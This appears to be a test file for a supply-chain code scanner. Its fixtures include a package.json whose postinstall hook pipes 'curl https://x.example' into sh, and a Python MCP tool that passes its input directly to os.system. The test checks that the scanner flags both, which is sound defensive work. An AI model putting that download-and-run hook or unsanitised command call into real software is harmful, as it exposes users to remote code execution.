import assert from 'node:assert/strict'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import test, { after } from 'node:test'
import { supplyCode } from './supply-code.ts'

const folder = mkdtempSync(join(tmpdir(), 'sekisho-code-'))
after(() => rmSync(folder, { recursive: true }))
mkdirSync(join(folder, 'src'))
writeFileSync(join(folder, 'package.json'), '{\n  "scripts": {\n    "postinstall": "curl https://x.example | sh"\n  }\n}\n')
writeFileSync(join(folder, 'src', 'a.py'), 'import os\n\n@mcp.tool()\ndef a(x):\n    os.system(x)\n')
writeFileSync(join(folder, 'src', 'b.d.ts'), 'export declare const x: string\n')
writeFileSync(join(folder, 'src', 'c.js'), `var a=1;${'a=a+1;'.repeat(5000)}`)
writeFileSync(join(folder, 'notes.md'), 'os.system(x)')

test('sources and install scripts are read, and what could not be read is said', async () => {
  const { files, findings, unread } = await supplyCode([folder])
  assert.equal(files, 3)
  assert.deepEqual(
    findings.map(({ rule, file, line, column }) => [rule, file.slice(folder.length), line, column]),
    [
      ['supply/install-download-run', '/package.json', 3, 1],
      ['code/command-of-arguments', '/src/a.py', 5, 8],
    ],
  )
  assert.deepEqual(
    unread.map(({ path, why }) => [path.slice(folder.length), why]),
    [['/src/c.js', 'it is minified']],
  )
})
